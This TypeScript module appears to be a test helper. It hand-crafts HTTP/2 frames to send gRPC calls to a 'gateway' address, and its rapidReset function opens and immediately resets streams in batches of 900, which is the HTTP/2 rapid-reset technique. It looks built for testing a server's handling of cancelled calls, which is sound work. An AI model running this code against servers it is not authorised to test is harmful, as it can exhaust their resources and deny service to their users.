import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

const [DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE] = [0, 1, 3, 4, 8];
const [END_STREAM, END_HEADERS] = [1, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);
const INITIAL_WINDOW_SIZE = 4;
/** Responses of up to 1 GiB need no further WINDOW_UPDATE. */
const WINDOW = Buffer.from([0x40, 0, 0, 0]);
const PREFACE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, INITIAL_WINDOW_SIZE]), WINDOW])),
  frame(WINDOW_UPDATE, 0, 0, WINDOW),
]);
/** Node closes a connection on which more streams are reset at once. */
const STREAMS_PER_CONNECTION = 900;

/** A gRPC call as bytes. */
export interface RawCall {
  /** As in `/wxa.code.v1.Operations/GetOperation`. */
  path: string;
  message: Uint8Array;
}

/** Sends complete calls and resets each at once. No client library does that, so the frames are made here. */
export async function rapidReset(address: string, calls: readonly RawCall[]): Promise<void> {
  for (let from = 0; from < calls.length; from += STREAMS_PER_CONNECTION)
    await resetAll(address, calls.slice(from, from + STREAMS_PER_CONNECTION));
}

/** Sends calls on one connection and discards the responses until the socket is destroyed. */
export async function sendAll(address: string, calls: readonly RawCall[]): Promise<Socket> {
  const socket = await open(address);
  socket.write(Buffer.concat([PREFACE, ...calls.map((call, i) => stream(2 * i + 1, call))]));
  return socket;
}

async function resetAll(address: string, calls: readonly RawCall[]): Promise<void> {
  const socket = await open(address);
  const streams = calls.map((call, i) =>
    Buffer.concat([stream(2 * i + 1, call), frame(RST_STREAM, 0, 2 * i + 1, CANCEL)]),
  );
  socket.end(Buffer.concat([PREFACE, ...streams]));
  await once(socket, 'close');
}

async function open(address: string): Promise<Socket> {
  const [host = '', port = ''] = address.split(':');
  const socket = connect(Number(port), host);
  socket.on('error', () => undefined).resume();
  await once(socket, 'connect');
  return socket;
}

function stream(id: number, { path, message }: RawCall): Buffer {
  const length = Buffer.alloc(5);
  length.writeUInt32BE(message.length, 1);
  return Buffer.concat([
    frame(HEADERS, END_HEADERS, id, headersOf(path)),
    frame(DATA, END_STREAM, id, Buffer.concat([length, message])),
  ]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK (RFC 7541): `POST` and `http` by their index, all others as literals without Huffman coding. */
function headersOf(path: string): Buffer {
  const literals = Object.entries({
    ':path': path,
    ':authority': 'gateway',
    'content-type': 'application/grpc',
    te: 'trailers',
  });
  return Buffer.concat([Buffer.from([0x83, 0x86]), ...literals.map(literal)]);
}

function literal([name, value]: [string, string]): Buffer {
  const [length, valueLength] = [String.fromCharCode(name.length), String.fromCharCode(value.length)];
  return Buffer.from(`\0${length}${name}${valueLength}${value}`);
}
